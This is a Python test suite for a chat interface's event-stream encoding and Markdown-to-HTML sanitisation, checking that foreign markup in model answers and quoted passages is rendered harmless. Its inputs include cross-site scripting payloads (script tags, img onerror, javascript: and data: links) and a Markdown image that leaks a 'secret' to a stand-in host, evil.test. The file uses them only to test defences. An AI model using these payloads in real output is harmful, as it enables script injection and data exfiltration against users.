"""What readers get of an event: SSE frames, and the chat page's Markdown with everything foreign made harmless."""

import gc
import json
import re
import time
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ui.cards import source as card
from ui.encode import Shown, sse
from ui.highlighting import highlighted_html as quoted
from ui.links import Links
from ui.rendering import NESTING, RENDERED, answer, said
from ui.words import words

EVERYWHERE = Links((), ["example.test", "evil.test", "x.y"]).allow
ROUTED = {
    "type": "routed",
    "turn": "abcdef12-3456",
    "conversation": "c",
    "route": "retrieve",
    "scores": {"information": 0.93, "voice": 0.1},
    "threshold": 0.2,
    "reasons": ["asks for <b>something</b>", "a close match"],
    "query": "hotel cap",
    "fresh": False,
    "requested": False,
    "router_version": "v1",
}
FINISHED = {
    "type": "finished",
    "answer": "",
    "model": "m",
    "prompt_version": "p",
    "usage": {},
    "timings": {"first_token": 0.1, "finished": 0.2},
    "note": "A note.",
    "cut": False,
}


def source(found: dict[str, Any], turn: str) -> str:
    return card(found, turn, words("en"))


def passage(number: int, **changes: Any) -> dict[str, Any]:
    return {
        "number": number, "collection": "demo", "document": "a.md", "title": "Travel", "section": ["Caps"],
        "page": None, "date": "2026-03-02", "text": "The cap is £165.", "start": 0, "end": 16, "score": 0.03,
        "similarity": 0.7,
    } | changes  # fmt: skip


def retrieved(*passages: dict[str, Any], evidence: str = "supported") -> dict[str, Any]:
    return {"type": "retrieved", "query": "q", "searched": ["demo"], "passages": list(passages), "evidence": evidence}


@given(st.text(), st.sampled_from(["text_delta", "finished"]))
def test_an_sse_frame_is_one_event_whatever_the_text(text: str, kind: str) -> None:
    frame = sse({"type": kind, "text": text})
    assert frame.endswith("\n\n") and frame.count("\n\n") == 1
    name, data = frame.rstrip("\n").split("\n")
    assert name == f"event: {kind}" and json.loads(data.removeprefix("data: "))["text"] == text


@given(st.text())
def test_a_reader_that_splits_lines_as_unicode_does_gets_whole_frames(text: str) -> None:
    text = f"a\u2028b\u0085c\x0bd{text}"
    lines = list(httpx.Response(200, text=sse({"type": "text_delta", "text": text})).iter_lines())
    assert lines[0] == "event: text_delta" and json.loads(lines[1].removeprefix("data: "))["text"] == text
    assert not any(lines[2:])


def test_an_answer_shows_route_text_note_and_the_cited_source_first() -> None:
    shown = Shown()
    checked = {"type": "checked", "evidence": "supported", "cited": [2], "invented": []}
    for event in (
        ROUTED,
        retrieved(passage(1, title="Other"), passage(2)),
        {"type": "text_delta", "text": "The cap is £165 "},
        {"type": "text_delta", "text": "[2]."},
        checked,
        FINISHED,
    ):
        shown.take(event)
    page = shown.markdown()
    assert page.index('class="route') < page.index("The cap is £165") < page.index("A note.")
    assert page.index("src-abcdef12-2") < page.index("1 more found") < page.index("src-abcdef12-1")
    assert '<a href="#cite-abcdef12-2">[2]</a>' in page
    assert "asks for &lt;b&gt;something" in page and "<b>something" not in page


def test_a_failure_and_a_stop_are_said() -> None:
    shown = Shown()
    shown.take(ROUTED)
    shown.take({"type": "failed", "code": "x", "message": "The model\n\nis <down>.", "partial": ""})
    assert '<p class="notice failed">The model is &lt;down&gt;.</p>' in shown.markdown()
    assert "Stopped." in Shown(text="half", routed=ROUTED, stopped=True).markdown()


@pytest.mark.parametrize("evidence", ["partly", "not_in_documents"])
def test_weak_evidence_is_said(evidence: str) -> None:
    shown = Shown()
    shown.take(ROUTED)
    shown.take(retrieved(passage(1), evidence=evidence))
    assert 'class="notice evidence"' in shown.markdown()


def test_the_route_card_names_collections_by_their_titles() -> None:
    found = retrieved(passage(1)) | {"searched": ["demo", "hr"]}
    page = Shown(routed=ROUTED, retrieved=found, collections={"demo": "Demo & more"}).markdown()
    assert "<dt>Searched in</dt><dd>Demo &amp; more, hr</dd>" in page


@pytest.mark.parametrize(
    ("text", "gone", "kept"),
    [
        ("<img src=http://evil.test/x>", "<img", "&lt;img"),
        ("<script>alert(1)</script>", "<script", "alert"),
        ("a \\`<img src=x>` b", "<img", "&lt;img src=x&gt;"),
        ("a ``` b\n<img src=x>\n``` c", "<img", "&lt;img src=x&gt;"),
        ("```\n<img src=x>", "<img", "&lt;img src=x&gt;"),
        ("![leak](https://evil.test/?q=secret)", "evil.test", "<p>leak</p>"),
        ("![![a](b)](http://evil.test)", "evil.test", "<p>a</p>"),
        ("![a \\* *b* `c`](http://evil.test)", "evil.test", "<p>a * b c</p>"),
        ("![leak][1]\n\n[1]: https://evil.test", "<img", "leak"),
        ("[a]: https://evil.test\n\n[a]", "<a", "[a]: https://evil.test"),
        ("[click](javascript:alert(1))", "javascript:", "[click]"),
        ("[click](  JaVaScript:alert(1) )", "JaVaScript", "[click]"),
        ("[click](&#106;avascript:alert(1))", "script:", "[click]"),
        ("[click](data:text/html,x)", "data:", "[click]"),
        ("[click](//evil.test)", "evil.test", "[click]"),
        ("[click](/v1/conversations)", "<a", "[click]"),
        ("[click](https://evil.test/#cite-t-1)", "evil.test", "[click]"),
        ("<javascript:alert(1)>", "<a", "<p>javascript:alert(1)</p>"),
        ("<a href='javascript:x'>y</a>", "<a", "y"),
        ('```x"><img src=x>\na', "<img", '<code class="language-x">'),
        ("```x y&#32;src\na", "src", '<code class="language-x">'),
        ("a %%%LATEX_BLOCK_0%%% b", "LATEX_BLOCK", "%%%LATEX&#95;BLOCK_0%%%"),
        ("half \ud83d", "\ud83d", "half \ufffd"),
    ],
)
def test_foreign_markup_in_an_answer_is_harmless(text: str, gone: str, kept: str) -> None:
    page = answer(text, "t", {1}, EVERYWHERE)
    assert gone not in page and kept in page


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("[click](https://evil.test/?q=1&r=2)", "click (https://evil.test/?q=1&amp;r=2)"),
        ("[click](HTTPS://EVIL.test/)", "click (HTTPS://EVIL.test/)"),
        ("<https://evil.test/a>", "https://evil.test/a"),
        ("https://evil.test/a and www.evil.test", "https://evil.test/a and www.evil.test"),
        ("[mail](mailto:a@evil.test?body=x)", "mail (mailto:a@evil.test?body=x)"),
        ("<a@evil.test>", "a@evil.test"),
        ("[**b** [1]](https://evil.test)", '<strong>b</strong> <a href="#cite-t-1">[1]</a> (https://evil.test)'),
        ("[![i](https://evil.test/i)](https://evil.test/l)", "i (https://evil.test/l)"),
        ("[xn](https://еvil.test/)", "xn (https://xn--vil-qdd.test/)"),
        (f"[a](https://evil.test/{'x' * 100})", f"a (https://evil.test/{'x' * 62}…)"),
    ],
)
def test_an_address_that_is_the_models_own_is_text(text: str, shown: str) -> None:
    assert answer(text, "t", {1}) == f'<div class="answer" dir="auto"><p>{shown}</p></div>'


def test_links_lead_to_what_the_passages_name_and_to_the_hosts_of_the_surface() -> None:
    text = "[a](https://files.test/form.pdf) [b](https://evil.test/?q=1) [c](https://www.ours.test/anything)"
    found = retrieved(passage(1, text="The form: https://files.test/form.pdf."))
    page = Shown(text=text, routed=ROUTED, retrieved=found, hosts=["*.ours.test"]).markdown()
    assert re.findall('<a href="(https[^"]*)"', page) == [
        "https://files.test/form.pdf",
        "https://www.ours.test/anything",
    ]
    assert "b (https://evil.test/?q=1)" in page


class Tags(HTMLParser):
    """Reads a page as a browser does, and keeps what it finds."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.links += [value or "" for name, value in attrs if name == "href"]
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


ALLOWED = set(
    "div p a span ul ol li blockquote pre code em strong s h1 h2 h3 h4 h5 h6 hr br table thead tbody tr th td".split()
)
PIECES = r"""! [ ] ( ) < > ` * _ ~ # | - + \ & " ' % $ : ; = a b ``` ~~~ [1] [2] ]( ![ |-|-| <img onerror=y> <!-- ]]>
&lt; javascript: http://x.y %%%LATEX_BLOCK_0%%%""".split()
SPACES = [" ", "  ", "    ", "\n", "\n\n", "\r", "\t", "\x00", "\x0b", "\x85", "\u2028", "> ", "- ", "1. "]
MARKUP = st.lists(st.sampled_from(PIECES + SPACES), max_size=60).map("".join)


@given(st.one_of(MARKUP, st.text(max_size=200)))
def test_an_answer_is_one_balanced_block_of_known_elements(text: str) -> None:
    assert "<a" not in answer(text, "t", set())
    html = answer(text, "t", {1}, EVERYWHERE)
    assert "\n" not in html and "\r" not in html and "\t" not in html
    page = Tags(html)
    assert page.open == [] and page.tags <= ALLOWED
    assert page.attributes <= {"class", "dir", "href", "rel", "target", "style", "start", "tabindex"}
    assert all(link == "#cite-t-1" or re.match("(?i)https?://|mailto:", link) for link in page.links)


@given(MARKUP)
def test_whatever_an_answer_leaves_open_notices_and_sources_stay_whole(text: str) -> None:
    shown = Shown(text=f"x{text}", routed=ROUTED, retrieved=retrieved(passage(1, text=text)), stopped=True)
    blocks = shown.markdown().split("\n\n")
    assert len(blocks) == 4 and all("\n" not in block for block in blocks)
    starts = ("<details", '<div class="answer"', '<p class="notice', '<div class="sources"')
    assert all(block.startswith(start) for block, start in zip(blocks, starts, strict=True))


def test_code_is_left_as_it_is() -> None:
    text = "Use `a[1] < b` or\n\n```html\n<img src=x> [1]\n\n\ty\n```\nthen [1]."
    page = answer(text, "t", {1})
    assert "<code>a[1] &lt; b</code>" in page and page.endswith('then <a href="#cite-t-1">[1]</a>.</p></div>')
    assert (
        '<pre tabindex="0"><code class="language-html">&lt;img src=x&gt; [1]&#10;&#10;&#9;y&#10;</code></pre>' in page
    )


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a [1] b [7]", 'a <a href="#cite-t-1">[1]</a> b [7]'),
        ("[1][2]", '<a href="#cite-t-1">[1]</a><a href="#cite-t-2">[2]</a>'),
        ("**[1]**.", '<strong><a href="#cite-t-1">[1]</a></strong>.'),
        ("[1](x)", "[1]"),
        ("\\[1\\]", "[1]"),
        ("![see [1]](x)", "see [1]"),
        ("a [1", "a [1"),
        ("a [", "a ["),
        ("[1]: b", '<a href="#cite-t-1">[1]</a>: b'),
        ("نعم [١]", 'نعم <a href="#cite-t-1">[1]</a>'),
    ],
)
def test_only_numbers_of_passages_become_links(text: str, html: str) -> None:
    assert answer(text, "t", {1, 2}) == f'<div class="answer" dir="auto"><p>{html}</p></div>'


def test_a_link_opens_elsewhere_and_takes_no_citation_in() -> None:
    page = answer('[see [1] here](https://example.test/?a=1&b=2 "t")', "t", {1}, EVERYWHERE)
    attributes = 'href="https://example.test/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank"'
    assert f"<p><a {attributes}>see [1] here</a></p>" in page


def test_line_breaks_tables_and_strikethrough_are_kept() -> None:
    assert "Best,<br /> Anna" in answer("Best,\nAnna", "t", set())
    page = answer("|a|b|\n|-|-:|\n|~~1~~|2 [1]|", "t", {1})
    assert '<td><s>1</s></td> <td style="text-align:right">2 <a href="#cite-t-1">[1]</a></td>' in page


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("- [ ] a", '<li><span class="task">☐</span>a</li>'),
        ("1. [x] *a* [1]", '<li><span class="task">☑</span><em>a</em> <a href="#cite-t-1">[1]</a></li>'),
        ("- [X] <b>", '<li><span class="task">☑</span>&lt;b&gt;</li>'),
        ("- [y] a", "<li>[y] a</li>"),
        ("- [ ](x) a", "<li>[ ] a</li>"),
        ("- \\[ ] a", "<li>[ ] a</li>"),
        ("[x] a", "<p>[x] a</p>"),
    ],
)
def test_a_list_of_tasks_has_boxes(text: str, html: str) -> None:
    assert html in answer(text, "t", {1})


def test_a_task_may_be_marked() -> None:
    text = "- [x] false claim"
    for start in (2, 6):
        marks: list[dict[str, Any]] = [
            {"start": start, "end": len(text), "state": "unsupported", "why": "no", "passages": []}
        ]
        html = answer(text, "t", set(), marks=marks)
        assert '<span class="task">☑</span><span class="mark unsupported" tabindex="0">false claim<' in html


def test_code_has_its_language_above_and_a_place_for_a_button() -> None:
    page = answer("```js x\na\n```\n\n```\nb\n```\n\n    c", "t", set())
    head = '<div class="code" dir="ltr"><p class="code-head">'
    assert f'{head}<span class="code-language">js</span></p><pre tabindex="0"><code class="language-js">a&#10;' in page
    assert page.count(f'{head}</p><pre tabindex="0"><code>') == 2


def test_lists_tables_and_quotations_stand_on_the_side_they_are_read_from() -> None:
    page = answer("- a\n\n1. b\n\n> c\n\n|d|\n|-|\n", "t", set())
    assert re.findall('<(ul|ol|blockquote|table) dir="auto"', page) == ["ul", "ol", "blockquote", "table"]


@pytest.mark.parametrize("text", ["", " \n "])
def test_an_answer_without_words_is_nothing(text: str) -> None:
    assert answer(text, "t", set()) == ""


def test_what_is_nested_too_deep_or_too_long_to_render_is_shown_as_it_is() -> None:
    for deep in ("> " * NESTING + "deepest", "- " * NESTING + "deepest"):
        assert "deepest</pre>" in answer(deep, "t", set()) and "deepest</pre>" in quoted(deep)
    page = answer("*a*\n" + "word\n" * RENDERED + "<b>*last*", "t", set())
    assert page.startswith('<div class="answer" dir="auto"><p><em>a</em>')
    assert page.endswith("word&#10;&lt;b&gt;*last*</pre></div>") and page.count("word") == RENDERED


ADVERSARIAL: dict[str, Callable[[int], str]] = {
    "![": lambda size: "![" * (size // 2),
    "[": lambda size: "[" * size,
    "[]": lambda size: "[" * (size // 2) + "]" * (size // 2),
    "[a](": lambda size: "[a](<b" * (size // 6),
    "![nested](": lambda size: ("![" * 18 + "](x)" * 18) * (size // 108),
    "`": lambda size: "`" * size,
    "` ``": lambda size: "".join("`" * length + " " for length in range(int((2 * size) ** 0.5))),
    "*": lambda size: "*" * size,
    "*a_": lambda size: "*a_b" * (size // 4),
    "<": lambda size: "<" * size,
    "> ": lambda size: "> " * (size // 2),
    "> a": lambda size: (">" * (NESTING - 2) + "a\n") * (size // NESTING),
    ">\na": lambda size: ">" * (NESTING - 2) + "a\n" * (size // 2),
    "- ": lambda size: "".join("  " * depth + "- a\n" for depth in range(int(size**0.5))),
    "- - ": lambda size: "- a\n\n" * (size // 5),
    "|": lambda size: "|a" * int(size**0.5) + "\n" + "|-" * int(size**0.5) + "\n" + "|\n" * int(size**0.5),
    "[1]": lambda size: "[1]" * (size // 3),
    "[a]: b": lambda size: f"[a]: {'b' * (size // 2)}\n\n" + "[a]" * (size // 6),
}


def seconds(text: str) -> float:
    """Of this process alone and without the collector, whose full runs depend on what other tests left."""
    gc.collect()
    gc.disable()
    try:
        began = time.process_time()
        answer(text, "t", {1})
        return time.process_time() - began
    finally:
        gc.enable()


@pytest.mark.parametrize("size", [RENDERED // 2, 100_000])
@pytest.mark.parametrize("kind", ADVERSARIAL)
def test_twice_the_text_takes_about_twice_the_time(kind: str, size: int) -> None:
    answer("warm", "t", set())
    once, twice = ADVERSARIAL[kind](size), ADVERSARIAL[kind](2 * size)
    tries = ((seconds(twice), seconds(once)) for _ in range(4))
    assert any(long < 3.5 * short + 0.02 for long, short in tries)


@given(st.text())
def test_what_a_person_said_is_text(text: str) -> None:
    html = said(text)
    assert not re.search(r"[\n\r\t]", html) and set(re.findall(r"<(\w+)", html)) <= {"div", "br"}


def test_what_a_person_said_keeps_its_lines() -> None:
    assert said(" *a*\r\n\r\n<b> & \rc\td ") == (
        '<div class="said" dir="auto">*a*<br><br>&lt;b&gt; &amp; <br>c&#9;d</div>'
    )


@given(st.text(max_size=300))
def test_a_quoted_passage_holds_no_active_markup_and_stays_one_block(text: str) -> None:
    html = quoted(text)
    assert "\n" not in html
    tags = set(re.findall(r"<(\w+)", html))
    allowed = "p ul ol li blockquote code pre em strong h1 h2 h3 h4 h5 h6 hr br table thead tbody tr th td"
    assert tags <= set(allowed.split())


@pytest.mark.parametrize("text", ["[x](javascript:1)", "![x](http://evil.test)", "<img src=x>", "<http://evil.test>"])
def test_links_and_images_of_a_passage_are_text(text: str) -> None:
    html = source(passage(1, text=text, title="<i>t</i>", section=["<b>"]), "t")
    assert "<img" not in html and "<a " not in html and "<i>" not in html and "<b>t" not in html


def test_code_is_cited_by_symbol_and_line_and_shown_as_it_stands() -> None:
    text = "    # no heading\n    return `a` < b"
    html = source(passage(1, title="server.py", section=["Server", "handle"], line=12, text=text, date=None), "t")
    assert (
        re.sub(' dir="auto"', "", html).count("<em>server.py</em><span>Server › handle</span><span>line 12</span>") == 1
    )
    assert "# no heading" in html and "return `a` &lt; b" in html and "<h1" not in html
    assert "line" not in source(passage(1, line=None), "t")


def test_an_answer_beyond_the_documents_says_why() -> None:
    def page(evidence: str, **more: Any) -> str:
        return Shown(routed=ROUTED, retrieved=retrieved(passage(1), evidence=evidence) | more).markdown()

    why = ["the closest is far", "they do not mention “<b>tungsten”"]
    reason = "<small>The closest is far; they do not mention “&lt;b&gt;tungsten”.</small>"
    assert reason in page("not_in_documents", why=why) and reason in page("partly", why=why)
    assert "far" not in page("supported", why=why)
    for alone in (page("partly"), page("partly", why=[])):
        assert "notice evidence" in alone and "<small>" not in alone


def test_a_source_says_that_a_newer_one_differs_and_which_documents_say_the_same() -> None:
    older = source(passage(2, newer=1, duplicates=["old/<b>.md", "copy.md"]), "t")
    assert '<span class="older">older than [1], which differs</span></summary>' in older
    assert '<p class="also" dir="auto">The same stands in old/&lt;b&gt;.md, copy.md.</p></details>' in older
    for plain in (source(passage(1), "t"), source(passage(1, newer=None, duplicates=[]), "t")):
        assert "older" not in plain and "also" not in plain
